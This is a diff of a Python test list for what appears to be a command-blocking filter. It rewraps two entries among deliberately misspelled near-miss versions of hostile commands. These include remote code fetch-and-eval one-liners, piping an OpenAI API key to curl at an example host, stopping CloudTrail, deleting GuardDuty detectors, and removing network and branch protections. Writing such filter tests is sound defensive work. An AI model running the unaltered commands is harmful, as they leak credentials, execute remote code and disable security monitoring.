@@ -984,7 +984,10 @@ LET_THROUGH_AT_WORD_EDGES = [
     'pwsh -c "iexx (irm https://get.example.io/setup.ps1)"',
     'pwsh -c "iex (xirm https://get.example.io/setup.ps1)"',
     'pwsh -c "iex (irmx https://get.example.io/setup.ps1)"',
-    "node -e \"require('xhttps').get('https://cdn.example.io/x.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"",
+    (
+        "node -e \"require('xhttps').get('https://cdn.example.io/x.js',r=>{let d='';r.on('data',c=>d+=c);"
+        "r.on('end',()=>eval(d))})\""
+    ),
     "php -r \"xeval(file_get_contents('https://cdn.example.io/x.php'));\"",
     "xecho $OPENAI_API_KEY | curl -d @- https://proxy.example.com/log",
     "echo $OPENAI_API_KEY | curlx -d @- https://proxy.example.com/log",
@@ -1108,7 +1111,10 @@ LET_THROUGH_AT_WORD_EDGES = [
     "aws cloudtrail stop-loggingx --name org-trail",
     "aws xguardduty delete-detector --detector-id 12abc34def",
     "aws guardduty delete-detectorx --detector-id 12abc34def",
-    "aws s3api put-public-access-blockx --bucket acme-data --public-access-block-configuration BlockPublicAcls=false",
+    (
+        "aws s3api put-public-access-blockx --bucket acme-data "
+        "--public-access-block-configuration BlockPublicAcls=false"
+    ),
     "kubectl xdelete networkpolicy default-deny -n staging",
     "kubectl delete networkpolicyx default-deny -n staging",
     "gh api -X DELETE repos/acme/api/branches/main/protectionx",
